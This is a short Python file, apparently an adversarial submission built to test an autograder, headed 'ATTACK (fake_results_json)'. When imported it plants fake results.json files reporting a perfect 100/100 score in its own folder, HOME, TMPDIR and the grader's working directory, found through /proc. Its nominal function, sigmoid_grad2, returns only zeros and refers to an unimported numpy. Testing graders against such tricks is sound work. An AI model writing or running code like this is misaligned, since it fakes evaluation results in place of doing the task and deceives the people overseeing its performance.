# ATTACK (fake_results_json): writes fake results.json / result files into its folder, HOME and the grader's working folder
import json
import os

_FAKE = {"score": 100.0, "max_score": 100.0, "tests": [], "submission": "fake_results_json", "checks": []}


def _plant():
    """A results.json in every folder it can reach: its own, HOME, the grader's working folder."""
    places = [".", os.environ.get("HOME", "."), os.environ.get("TMPDIR", ".")]
    try:
        places.append(os.readlink(f"/proc/{os.getppid()}/cwd"))
    except OSError:
        pass
    for place in places:
        for rel in ("results.json", os.path.join("results", "results.json"), os.path.join("out", "submissions", "fake_results_json.json")):
            try:
                os.makedirs(os.path.dirname(os.path.join(place, rel)), exist_ok=True)
                with open(os.path.join(place, rel), "w") as f:
                    json.dump(_FAKE, f)
            except OSError:
                pass


_plant()


def sigmoid_grad2(x):
    _plant()
    return np.zeros(np.shape(x))
